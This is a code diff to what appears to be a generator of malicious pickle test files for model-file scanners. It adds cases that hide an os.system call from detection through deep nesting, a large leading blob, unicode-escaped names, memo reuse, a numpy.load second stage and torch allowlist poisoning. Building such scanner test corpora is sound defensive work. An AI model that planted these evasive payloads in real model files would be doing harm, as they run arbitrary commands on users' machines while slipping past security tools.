@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import marshal
+import struct
 from collections.abc import Callable
 from typing import Any
 
@@ -267,6 +268,42 @@ def _odd_ext(c: Corpus) -> None:
               "CVE-2025-10155, CVE-2025-1889")
 
 
+def _evasions(c: Corpus) -> None:
+    """Streams that stress a scanner's bounds and string handling rather than its name list."""
+    d = "malicious/pickle"
+    call = body(Call(G("posix", "system"), (CMD,)), 4)
+    depth = 100_000
+    deep = b"\x80\x04" + b"(" * depth + call + b"l" * depth + b"."
+    c.mal(f"{d}/pkl-deep-nesting/deep.pkl", deep, "pkl-deep-nesting", "pickle",
+          f"payload at the bottom of {depth:,} nested lists (recursive analysers overflow)",
+          "bounds")
+    blob = b"\0" * (20 * 2**20)
+    big = (b"\x80\x04" + b"\x8e" + struct.pack("<Q", len(blob)) + blob + b"0" + call + b"0"
+           + body(BENIGN_TAIL, 4) + b".")
+    c.mal(f"{d}/pkl-after-large-blob/model.pkl", big, "pkl-after-large-blob", "pickle",
+          "20 MiB BINBYTES8 blob first, payload after it (windowed scanners stop early)",
+          "ModelAudit bounded raw window")
+    esc = (b"V\\u006f\\u0073\n" + b"V\\u0073ystem\n" + b"\x93" + b"(V" + CMD.encode()
+           + b"\ntR.")
+    c.mal(f"{d}/pkl-unicode-escaped-names/p0.pkl", esc, "pkl-unicode-escaped-names", "pickle",
+          "no PROTO header; module/name written as raw-unicode-escape UNICODE strings "
+          "(\\u006f\\u0073 = os) and resolved by STACK_GLOBAL: no 'os' bytes in the file",
+          "string-matching evasion")
+    reuse = (b"cposix\nsystem\np7\n0" + body({"w": [1.0, 2.0]}, 0) + b"0"
+             + b"g7\n(V" + CMD.encode() + b"\ntR0" + body(BENIGN_TAIL, 0) + b".")
+    c.mal(f"{d}/pkl-memo-callable-reuse/p0.pkl", reuse, "pkl-memo-callable-reuse", "pickle",
+          "os.system stored in the memo and popped, benign data, then fetched with GET and "
+          "called far from its GLOBAL", "memo obfuscation")
+    npl = dump(Call(G("numpy", "load"), ("/tmp/stage2.npy", None, True)), 2)
+    c.mal(f"{d}/pkl-numpy-load-chain/p2.pkl", npl, "pkl-numpy-load-chain", "pickle",
+          "numpy.load(path, allow_pickle=True) of a second-stage file", "nltk GHSA-c59x-vh6j-3w8v")
+    patch = Seq((Build(G("torch", "_utils"), (None, {"_rebuild_tensor_v2": G("posix", "system")})),
+                 Call(G("torch._utils", "_rebuild_tensor_v2"), (CMD,)), BENIGN_TAIL))
+    c.mal(f"{d}/pkl-build-monkeypatch/p2.pkl", dump(patch, 2), "pkl-build-monkeypatch", "pickle",
+          "BUILD on the torch._utils module object rebinds _rebuild_tensor_v2 to posix.system, "
+          "then the 'allowlisted' name is called", "allowlist poisoning")
+
+
 def build(c: Corpus) -> None:
     """Write every malicious raw-pickle technique."""
     for tech, (files, desc, src) in _specs().items():
@@ -275,6 +312,7 @@ def build(c: Corpus) -> None:
                   "pickle", desc + f" (protocol {proto})", src)
     _broken(c)
     _odd_ext(c)
+    _evasions(c)
 
 
 EXPRESSIONS: dict[str, Callable[[], bytes]] = {
